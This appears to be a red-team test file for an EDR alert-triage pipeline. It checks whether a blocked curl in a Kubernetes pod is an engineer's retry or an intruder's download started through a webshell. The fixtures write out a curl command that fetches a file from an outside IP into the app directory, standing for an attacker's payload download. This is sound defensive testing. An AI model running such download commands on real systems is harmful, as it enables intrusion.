/**
 * Red-team traps for developer-retry (a person retrying a command the EDR keeps blocking): while alice retries
 * `curl` into the pod, the EDR blocks an intruder's curl started by the application's injected shell, or a curl
 * alice never typed into another container. Neither is alice's retry: the blocked process must be her session's.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import type { ExecSession } from '../../../src/cluster/model.js';
import { alert, containerIdOf, indexOf, node, owner, pod } from '../../support/cluster.js';

const N = 'ip-10-0-1-10.ec2.internal';
const api = pod('api-5f-abcde', {
  namespace: 'shop',
  node: N,
  ip: '10.1.0.7',
  owner: { kind: 'ReplicaSet', name: 'api-5f' },
  containers: [
    { name: 'api', image: 'shop/api:1.2', command: ['java', '-jar', '/app/api.jar'] },
    { name: 'sidecar', image: 'envoyproxy/envoy:v1.29' },
  ],
});
const retry = (command: string[], start: string, container = 'api'): ExecSession => ({
  kind: 'exec',
  user: 'alice@example.com',
  groups: ['system:authenticated'],
  sourceIps: ['203.0.113.5'],
  namespace: 'shop',
  pod: 'api-5f-abcde',
  container,
  command,
  tty: false,
  start,
  end: start.replace(/:(\d\d)Z$/, (_, s: string) => `:${String(Number(s) + 2).padStart(2, '0')}Z`),
  code: 101,
});
const curl = ['curl', '-s', 'http://198.51.100.7/k', '-o', '/var/lib/app/k'];
const objects = [node(N, '10.0.1.10'), owner('ReplicaSet', 'api-5f', 'shop', { kind: 'Deployment', name: 'api' }), owner('Deployment', 'api', 'shop'), api];
const blocked = (sessions: ExecSession[], ancestors: { name: string; commandLine: string }[], container = 0) =>
  triageAlert(
    alert({ host: N, time: '2026-01-01T12:03:01Z', action: 'blocked', container: { id: containerIdOf(api, container) }, title: 'Download blocked', process: { name: 'curl', path: '/usr/bin/curl', commandLine: curl.join(' ') }, ancestors }),
    { index: indexOf(objects, sessions) },
  ).verdict;

describe('redteam2 developer-retry: a blocked curl that is not the engineer’s retry', () => {
  const retries = [retry(curl, '2026-01-01T12:00:00Z'), retry(curl, '2026-01-01T12:03:00Z')];
  it('trap: the same curl, started by sh -c under java (a webshell), while alice retries', () => {
    expect(blocked(retries, [{ name: 'sh', commandLine: `sh -c ${curl.join(' ')}` }, { name: 'java', commandLine: 'java -jar /app/api.jar' }]).label).toBe('genuine');
  });
  it('trap: alice retried into the sidecar; the blocked curl ran in the api container', () => {
    const sidecar = [retry(curl, '2026-01-01T12:00:00Z', 'sidecar'), retry(curl, '2026-01-01T12:03:00Z', 'sidecar')];
    expect(blocked(sidecar, [{ name: 'containerd-shim-runc-v2', commandLine: 'containerd-shim-runc-v2' }]).label).toBe('genuine');
  });
  it('still her retry: the curl the runtime started for her exec', () => {
    expect(blocked(retries, [{ name: 'containerd-shim-runc-v2', commandLine: 'containerd-shim-runc-v2' }]).label).toBe('likely-false-positive');
  });
});
